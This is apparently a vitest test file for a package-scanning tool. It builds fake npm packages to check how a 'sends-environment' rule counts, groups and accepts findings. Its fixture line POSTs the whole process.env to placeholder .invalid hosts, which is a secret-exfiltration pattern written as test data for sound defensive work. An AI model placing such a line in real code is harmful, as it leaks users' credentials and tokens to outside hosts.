import { describe, expect, test } from 'vitest';
import { acceptancesOf, findingsMeant } from '../src/config/accept.js';
import { applyConfig } from '../src/config/apply.js';
import { LISTED } from '../src/run/collection.js';
import { scanPackage } from '../src/scan.js';
import type { Report } from '../src/types.js';

const SENDS = 'sends-environment';

/** A package with so many functions that each send the environment somewhere else. */
function reporter(many: number, more: Readonly<Record<string, string>> = {}): Promise<Report> {
  const reports = Array.from({ length: many }, (_, at) => reporting(at)).join('');
  return scanPackage({ files: { 'package.json': '{"name":"reporter","version":"1.0.0"}', 'a.js': reports, ...more } });
}

const sending = (host: string): string =>
  `require('https').request({ host: '${host}', method: 'POST' }).end(JSON.stringify(process.env));\n`;

const reporting = (at: number): string => `exports.report${at} = () => ${sending(`errors${at}.invalid`)}`;

const acceptedAll = (report: Report) => {
  const found = report.findings.map(finding => ({ report, finding }));
  return { accepted: [...acceptancesOf(findingsMeant('reporter', found) ?? [], { reason: 'our own error reports' })] };
};

const ofRule = ({ findings }: Report) => findings.filter(({ rule }) => rule === SENDS);

describe('many findings of one rule', () => {
  test('each of some dozens is a finding of its own', async () => {
    expect(ofRule(await reporter(30))).toHaveLength(30);
  });

  test('past the bound the rest is one finding, which says how many it stands for', async () => {
    const found = ofRule(await reporter(LISTED + 7));
    expect(found).toHaveLength(LISTED + 1);
    expect(found.filter(({ message }) => message.includes('and 6 more like it'))).toHaveLength(1);
  });

  test('those that weigh more are not among the rest of those that weigh less', async () => {
    const tests = Object.fromEntries(
      [1, 2].map(file => [`a/test/${file}.js`, Array.from({ length: LISTED }, (_, at) => reporting(at)).join('')]),
    );
    const [strongest] = ofRule(await reporter(0, { ...tests, 'index.js': sending('collect.invalid') }));
    expect(strongest?.moment).toBe('import');
    expect(strongest?.bits).toBe(ofRule(await reporter(0, { 'index.js': sending('collect.invalid') }))[0]?.bits);
  });
});

describe('accepting them', () => {
  for (const many of [30, LISTED + 7]) {
    test(`accepts all ${many}, and none that comes later`, async () => {
      const before = await reporter(many);
      const config = acceptedAll(before);
      expect(applyConfig(before, config, '2026-01-01').score).toBe(0);
      const after = applyConfig(await reporter(many, { 'zz.js': sending('collector.invalid') }), config, '2026-01-01');
      expect(after.verdict).toBe('malicious');
    });

    test(`goes on to hold for ${many} when one of them is copied`, async () => {
      const config = acceptedAll(await reporter(many));
      const copied = await reporter(many, { 'zz.js': reporting(0) });
      expect(applyConfig(copied, config, '2026-01-01').score).toBe(0);
    });
  }
});
